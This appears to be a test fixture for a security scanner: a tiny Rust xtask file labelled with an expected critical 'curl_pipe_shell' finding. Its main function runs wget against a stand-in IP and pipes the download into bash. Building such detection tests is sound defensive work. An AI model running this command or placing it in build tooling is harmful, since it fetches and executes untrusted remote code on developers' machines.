# expect: shell.curl_pipe_shell critical
# path: xtask/src/main.rs
use std::process::Command;
fn main() {
    Command::new("sh").arg("-c").arg("wget -qO- https://203.0.113.9/x | bash").status().unwrap();
}
